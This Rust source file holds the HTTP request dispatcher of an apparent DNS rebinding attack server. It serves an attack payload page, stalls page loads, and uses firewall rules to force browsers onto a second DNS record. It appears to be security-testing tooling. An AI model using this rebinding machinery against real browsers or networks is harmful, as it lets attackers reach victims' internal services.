//! Request dispatch for the listener fleet.
//!
//! One request per connection. Most routes produce a buffered response
//! with the fleet-wide default headers; `/delaydomload` and the multi-A
//! firewall path take the raw stream instead.

use std::net::SocketAddr;
use std::sync::Arc;

use chrono::Utc;
use log::{debug, info, warn};
use serde::{Deserialize, Serialize};
use tokio::io::{AsyncRead, AsyncWrite};

use crate::config::constants::{FIREWALL_TRIGGER_DELAY, PAYLOADS_SUBDIR, SERVERS_PUT_MAX_BODY};
use crate::config::AppConfig;
use crate::dns::RebindQuery;
use crate::firewall::PacketFilter;
use crate::http::fleet::HttpServerStore;
use crate::http::hijack::{delay_dom_load, firewall_trick};
use crate::http::payload::render_payload_page;
use crate::http::request::{read_request, Request};
use crate::http::response::{write_response, Response};
use crate::http::static_files::serve_path;
use crate::session::SessionStore;
use crate::strategy::Strategy;

/// Everything a request handler can reach: the immutable configuration
/// and the two shared stores, plus the packet-filter driver.
pub struct AppContext {
    /// Immutable runtime configuration.
    pub config: Arc<AppConfig>,
    /// DNS session store, shared with the responder.
    pub sessions: Arc<SessionStore>,
    /// Listener fleet store.
    pub servers: Arc<HttpServerStore>,
    /// Host packet-filter driver.
    pub filter: Arc<dyn PacketFilter>,
}

#[derive(Debug, Serialize)]
struct ClientInfo {
    #[serde(rename = "IPAddress")]
    ip_address: String,
    #[serde(rename = "Port")]
    port: String,
}

#[derive(Debug, Serialize, Deserialize)]
struct ServerInfo {
    #[serde(rename = "Port")]
    port: u16,
}

#[derive(Debug, Serialize)]
struct ServersConfig {
    #[serde(rename = "ServerInformation")]
    server_information: Vec<ServerInfo>,
    #[serde(rename = "AllowDynamicHTTPServers")]
    allow_dynamic_http_servers: bool,
}

/// Serves one connection end to end.
///
/// `peer` and `local` are the connection's endpoints; the firewall trick
/// needs both to describe the flow it drops.
pub async fn serve_connection<S>(
    mut stream: S,
    peer: SocketAddr,
    local: SocketAddr,
    ctx: Arc<AppContext>,
) where
    S: AsyncRead + AsyncWrite + Unpin + Send + 'static,
{
    let request = match read_request(&mut stream, SERVERS_PUT_MAX_BODY).await {
        Ok(r) => r,
        Err(e) => {
            debug!("HTTP: unreadable request from {}: {}", peer, e);
            if let Err(e) = write_response(&mut stream, &Response::bad_request_json()).await {
                debug!("HTTP: failed to answer unreadable request from {}: {}", peer, e);
            }
            return;
        }
    };

    info!("HTTP: {} {} from {}", request.method, request.path, peer);

    let response = match request.path.as_str() {
        "/delaydomload" => {
            delay_dom_load(stream).await;
            return;
        }
        "/clientinfo" => client_info(&request, peer),
        "/soopayload.html" => payload_page(&ctx),
        "/servers" => servers_endpoint(&request, &ctx),
        _ => {
            if try_latch_firewall(&request, &ctx) {
                firewall_trick(stream, peer, local, ctx.filter.clone()).await;
                return;
            }
            serve_path(&ctx.config.html_root, &request.path).await
        }
    };

    if let Err(e) = write_response(&mut stream, &response).await {
        warn!("HTTP: failed to write response to {}: {}", peer, e);
    }
}

/// `GET /clientinfo`: the peer's address as the browser cannot see it
/// itself. Any other method is a 400.
fn client_info(request: &Request, peer: SocketAddr) -> Response {
    if request.method != "GET" {
        return Response::bad_request_json();
    }
    let info = ClientInfo {
        ip_address: peer.ip().to_string(),
        port: peer.port().to_string(),
    };
    match serde_json::to_string(&info) {
        Ok(body) => Response::ok_json(body),
        Err(_) => Response::bad_request_json(),
    }
}

/// `GET /soopayload.html`: the attack frame with all payloads inlined.
fn payload_page(ctx: &AppContext) -> Response {
    let payload_dir = ctx.config.html_root.join(PAYLOADS_SUBDIR);
    match render_payload_page(&payload_dir) {
        Ok(page) => Response::ok_html(page),
        Err(e) => {
            warn!("HTTP: could not assemble payload page: {}", e);
            Response::bad_request_json()
        }
    }
}

/// `/servers`: enumerate the fleet, or (PUT) replace the dynamic listener.
fn servers_endpoint(request: &Request, ctx: &Arc<AppContext>) -> Response {
    match request.method.as_str() {
        "GET" => {
            let server_information = ctx
                .servers
                .server_ports()
                .into_iter()
                .map(|port| ServerInfo { port })
                .collect();
            let config = ServersConfig {
                server_information,
                allow_dynamic_http_servers: ctx.config.allow_dynamic_http_servers,
            };
            match serde_json::to_string(&config) {
                Ok(body) => Response::ok_json(body),
                Err(_) => Response::bad_request_json(),
            }
        }
        "PUT" => {
            if !ctx.config.allow_dynamic_http_servers {
                return Response::bad_request_json();
            }
            let Ok(info) = serde_json::from_slice::<ServerInfo>(&request.body) else {
                return Response::bad_request_json();
            };
            ctx.servers.stop_dynamic();
            match ctx.servers.start_dynamic(info.port, ctx.clone()) {
                Ok(()) => match serde_json::to_string(&info) {
                    Ok(body) => Response::ok_json(body),
                    Err(_) => Response::bad_request_json(),
                },
                Err(e) => {
                    warn!("HTTP: could not start dynamic listener on port {}: {}", info.port, e);
                    Response::bad_request_json()
                }
            }
        }
        _ => Response::bad_request_json(),
    }
}

/// Decides whether this request must trigger the multi-A firewall trick,
/// latching `firewalled_once` when it does.
///
/// Requires the `Host` header to carry a multi-A program whose DNS
/// session exists and is older than the trigger delay: by then the
/// browser holds both A records and a dropped flow makes it fail over.
fn try_latch_firewall(request: &Request, ctx: &AppContext) -> bool {
    let Ok(program) = RebindQuery::parse(&request.host) else {
        return false;
    };

    let exists = ctx.sessions.contains(&program.session);
    debug!("HTTP: matching DNS session exists: {}", exists);
    if !exists || program.strategy_tag != Strategy::MultiA.tag() {
        return false;
    }

    let trigger_delay =
        chrono::Duration::from_std(FIREWALL_TRIGGER_DELAY).unwrap_or(chrono::Duration::zero());
    let old_enough = ctx
        .sessions
        .read(&program.session, |s| {
            Utc::now().signed_duration_since(s.first_query_time) > trigger_delay
        })
        .unwrap_or(false);

    if old_enough {
        info!(
            "HTTP: attempting multiple A records rebinding for: {:?}",
            program
        );
        ctx.sessions.update(&program.session, |s| s.firewalled_once = true);
    }
    old_enough
}
